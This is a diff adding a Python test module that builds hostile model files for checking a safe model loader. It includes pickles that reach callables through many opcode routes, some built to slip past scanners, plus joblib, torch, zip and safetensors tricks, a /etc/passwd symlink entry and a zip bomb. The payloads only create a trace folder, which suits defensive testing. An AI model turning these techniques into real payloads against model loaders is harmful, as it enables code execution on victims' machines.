@@ -1,0 +1,247 @@
+"""Attacks on loading: each builds one hostile file, in a line for the test."""
+
+from __future__ import annotations
+
+import copyreg
+import io
+import json
+import os
+import pickle
+import struct
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+
+POP_STOP = b"0N."
+
+
+class Touch:
+    """Makes a folder when it is unpickled: the trace that code ran."""
+
+    def __init__(self, trace: Path) -> None:
+        self.trace = trace
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.mkdir, (str(self.trace),)
+
+
+def malicious_pickle(trace: Path, *, protocol: int = 4) -> bytes:
+    """A pickle that makes a folder when it is loaded."""
+    return pickle.dumps({"weights": [1.0], "x": Touch(trace)}, protocol=protocol)
+
+
+def text(value: str) -> bytes:
+    """A SHORT_BINUNICODE opcode."""
+    return b"\x8c" + bytes([len(value)]) + value.encode()
+
+
+def pickles_that_run_code(trace: Path) -> dict[str, bytes]:
+    """One pickle for each way to reach a callable; each makes the folder with plain pickle."""
+    path = str(trace)
+    fresh = b"\x80\x04"
+    found = text("os") + text("mkdir") + b"\x93"
+    call = text(path) + b"\x85R"
+    return {
+        "GLOBAL": b"cos\nmkdir\n(S'" + path.encode() + b"'\ntR.",
+        "INST": b"(S'" + path.encode() + b"'\nios\nmkdir\n.",
+        "OBJ of a class": b"(cbuiltins\nmap\ncos\nmkdir\n(S'" + path.encode() + b"'\nlo0N.",
+        "STACK_GLOBAL": fresh + found + call + b".",
+        "memoized names": fresh + text("os") + b"\x94" + text("mkdir") + b"\x94" + b"00"
+        b"h\x00h\x01\x93" + call + b".",
+        "name through DUP": fresh + text("posix") + text("mkdir") + b"\x93" + call + b".",
+        "dotted name": fresh + text("shutil") + text("os.mkdir") + b"\x93" + call + b".",
+        "Python 2 module": b"\x80\x02c__builtin__\neval\nX"
+        + struct.pack("<I", len(_expression(path))) + _expression(path) + b"\x85R.",
+        "hidden behind POP": fresh + found + call + POP_STOP,
+        "in a reduced argument": fresh + text("builtins") + text("str") + b"\x93"
+        + found + call + b"\x85R0N.",
+        "getattr chain": fresh + text("builtins") + text("getattr") + b"\x93"
+        + text("os") + text("path") + b"\x93" + text("os") + b"\x86R0"
+        + found + call + b".",
+    }  # fmt: skip
+
+
+def _expression(path: str) -> bytes:
+    return f"__import__('os').mkdir({path!r})".encode()
+
+
+def extension_pickle() -> bytes:
+    """A pickle that names its callable by a copyreg code (here registered for ``os.mkdir``)."""
+    copyreg.add_extension("os", "mkdir", 240)
+    try:
+        return b"\x80\x04\x82\xf0" + text("x") + b"\x85R."
+    finally:
+        copyreg.remove_extension("os", "mkdir", 240)
+
+
+def straddling_frame() -> bytes:
+    """A pickle whose first opcode inside a frame is longer than the frame."""
+    return b"\x80\x04\x95" + struct.pack("<Q", 2) + text("abcdef") + b"."
+
+
+def endless_length() -> bytes:
+    """A pickle that declares bytes far beyond its end."""
+    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x."
+
+
+def class_poisoning() -> bytes:
+    """A pickle that sets an attribute on an allowed class, for the whole process."""
+    state = b"N}" + text("default_factory") + b"K\x01s\x86"
+    return b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93" + state + b"b."
+
+
+def set_item_of_a_tensor() -> bytes:
+    """CVE-2026-24747: SETITEM on what is no mapping."""
+    made = text("torch") + text("Tensor") + b"\x93)\x81"
+    return b"\x80\x04" + made + b"K\x00K\x01s."
+
+
+def codec_lookup() -> bytes:
+    """A pickle that makes ``_codecs.encode`` look a codec up by name."""
+    return (
+        b"\x80\x04"
+        + text("_codecs")
+        + text("encode")
+        + b"\x93"
+        + text("a")
+        + text("zlib")
+        + b"\x86R."
+    )
+
+
+def joblib_array_that_is_opcodes(file: Path, trace: Path) -> None:
+    """A joblib file whose array, read by plain pickle, is a pickle that runs code."""
+    import joblib  # noqa: PLC0415 - only this attack needs it
+
+    payload = b"0" + text("os") + text("mkdir") + b"\x93" + text(str(trace)) + b"\x85R."
+    payload = payload.ljust(256, b".")
+    joblib.dump(np.frombuffer(payload, np.uint8), file)
+    data = file.read_bytes()
+    # The padding length byte and the padding must be opcodes that do nothing: none are needed.
+    start = data.index(payload)
+    state = data.rindex(b"numpy_array_alignment_bytes")
+    aligned = data[state:].index(b"K\x10") + state
+    plain = data[:aligned] + b"N" + data[aligned + 2 :]
+    cut = plain.index(payload)
+    padding = start - (data.index(b"b", aligned) + 1)
+    file.write_bytes(plain[: cut - padding] + plain[cut:])
+
+
+def rewritten_zip(
+    file: Path, change: Callable[[zipfile.ZipInfo, bytes], tuple[str, bytes] | None]
+) -> None:
+    """Write an archive again with entries renamed, replaced or left out."""
+    data = file.read_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w") as new:
+        for info in old.infolist():
+            changed = change(info, old.read(info))
+            if changed is not None:
+                new.writestr(*changed)
+
+
+def poisoned_torch(file: Path, trace: Path) -> None:
+    """Replace a torch archive's pickle by one that runs code."""
+    rewritten_zip(
+        file,
+        lambda info, data: (
+            info.filename,
+            malicious_pickle(trace, protocol=2) if info.filename.endswith("data.pkl") else data,
+        ),
+    )
+
+
+def second_pickle(file: Path, name: str, trace: Path) -> None:
+    """Append an entry whose name some readers take for the pickle's."""
+    with zipfile.ZipFile(file, "a") as archive:
+        root = archive.namelist()[0].partition("/")[0]
+        archive.writestr(f"{root}/{name}", malicious_pickle(trace, protocol=2))
+
+
+def added_entry(file: Path, name: str, *, link: bool = False) -> None:
+    """Append an entry under any name, perhaps as a symlink."""
+    info = zipfile.ZipInfo(name)
+    info.external_attr = (0o120777 if link else 0o100644) << 16
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.writestr(info, b"/etc/passwd")
+
+
+def two_faced_header(file: Path) -> None:
+    """Let an entry's local header tell another name than the directory does."""
+    data = bytearray(file.read_bytes())
+    place = data.index(b"data.pkl")
+    data[place : place + 8] = b"evil.pkl"
+    file.write_bytes(data)
+
+
+def prefixed(file: Path) -> None:
+    """Put bytes before an archive; readers that look from the end still find it."""
+    file.write_bytes(b"PK\x03\x04" + b"\0" * 60 + file.read_bytes())
+
+
+def zip_bomb(file: Path) -> None:
+    """An npz whose array is four thousand times larger than what is stored."""
+    np.savez_compressed(file, x=np.zeros(8_000_000, np.uint8))
+
+
+def safetensors_bytes(header: dict[str, Any] | bytes, data: bytes) -> bytes:
+    """A safetensors file with any header."""
+    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<Q", len(encoded)) + encoded + data
+
+
+def tensor(begin: int, end: int, shape: list[int] | None = None) -> dict[str, Any]:
+    """A header entry of bytes."""
+    return {"dtype": "U8", "shape": shape or [end - begin], "data_offsets": [begin, end]}
+
+
+def hostile_safetensors() -> dict[str, bytes]:
+    """One malformed file for each thing a header can lie about."""
+    one = json.dumps(tensor(0, 4))
+    return {
+        "overlap": safetensors_bytes({"a": tensor(0, 4), "b": tensor(2, 6)}, b"123456"),
+        "gap": safetensors_bytes({"a": tensor(0, 2), "b": tensor(4, 6)}, b"123456"),
+        "past the end": safetensors_bytes({"a": tensor(0, 40)}, b"123456"),
+        "unaccounted bytes": safetensors_bytes({"a": tensor(0, 2)}, b"123456"),
+        "shape bomb": safetensors_bytes({"a": tensor(0, 6, [1 << 40])}, b"123456"),
+        "negative": safetensors_bytes({"a": tensor(-2, 4, [6])}, b"123456"),
+        "twice": safetensors_bytes(
+            b'{"a":' + one.encode() + b',"a":' + one.encode() + b"}", b"1234"
+        ),
+        "unknown type": safetensors_bytes(
+            {"a": {"dtype": "OBJ", "shape": [1], "data_offsets": [0, 6]}}, b"123456"
+        ),
+        "nested metadata": safetensors_bytes(
+            {"__metadata__": {"a": {}}, "b": tensor(0, 6)}, b"123456"
+        ),
+    }
+
+
+def keras_config(file: Path, change: Callable[[dict[str, Any]], None]) -> None:
+    """Edit the configuration inside a ``.keras`` archive."""
+
+    def edit(info: zipfile.ZipInfo, data: bytes) -> tuple[str, bytes]:
+        if info.filename != "config.json":
+            return info.filename, data
+        config = json.loads(data)
+        change(config)
+        return info.filename, json.dumps(config).encode()
+
+    rewritten_zip(file, edit)
+
+
+def keras_weights(file: Path, change: Callable[[Any], None]) -> None:
+    """Edit the HDF5 weights inside a ``.keras`` archive."""
+    import h5py  # noqa: PLC0415 - only these attacks need it
+
+    def edit(info: zipfile.ZipInfo, data: bytes) -> tuple[str, bytes]:
+        if not info.filename.endswith(".h5"):
+            return info.filename, data
+        buffer = io.BytesIO(data)
+        with h5py.File(buffer, "r+") as weights:
+            change(weights)
+        return info.filename, buffer.getvalue()
+
+    rewritten_zip(file, edit)
